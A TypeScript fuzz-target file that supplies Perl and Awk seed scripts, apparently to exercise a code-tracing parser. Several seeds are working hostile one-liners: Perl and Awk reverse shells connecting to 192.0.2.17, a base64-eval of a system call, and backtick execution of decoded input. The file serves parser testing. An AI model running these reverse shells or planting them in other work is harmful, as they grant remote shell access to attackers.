import { awk } from '../../src/trace/languages/awk/awk.ts';
import { perl } from '../../src/trace/languages/perl/perl.ts';
import { scriptTarget } from './script-targets.ts';
import type { FuzzTarget } from './target.ts';

/** Perl. */
export const perlTarget: FuzzTarget = scriptTarget(perl, [
  'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(8443,inet_aton("192.0.2.17")));open(STDIN,">&S");exec("/bin/sh -i");\n',
  'use MIME::Base64; eval decode_base64("c3lzdGVtICJpZCI7"); $_ = "vq"; y/a-z/n-za-m/; system $_ unless m{x}i;\n',
  'my %h = (a => [1, { b => sub { system @_ } }]); $h{a}[1]{b}->("id"); print <<"A", <<~\'B\';\n$h{x} @{[ map { chr } 1..3 ]}\nA\n  b\n  B\n',
  'sub f { my ($s, %o) = @_; while (my $l = <$s>) { chomp $l; $l =~ s/%([0-9a-f]{2})/chr hex $1/ge; `$l` } }\n=pod\n\n=cut\n__END__\nx\n',
  'package A { sub new { bless {}, shift } } my $o = A->new(x => 1 // 2); for my $i (0 .. $#{$o->{l}}) { last if $i > 3 } format X =\n@<<\n$a\n.\n',
]);

/** Awk. */
export const awkTarget: FuzzTarget = scriptTarget(awk, [
  'BEGIN { s = "/inet/tcp/0/192.0.2.17/1496"; while ((s |& getline c) > 0) { while ((c | getline r) > 0) print r |& s } }\n',
  'function f(a, b) { return a / b } /x[/]y/ && $3 > 2, NR == 5 { print $1, f($2, 3) > "/tmp/x"; next } END { system("id") }\n',
  'BEGIN { n = split("105 100", a, / /); for (i in a) c = c sprintf("%c", a[i]); gsub(/[a-z]+/, "<&>", c); printf("%s\\n", c) | "sh" }\n',
]);
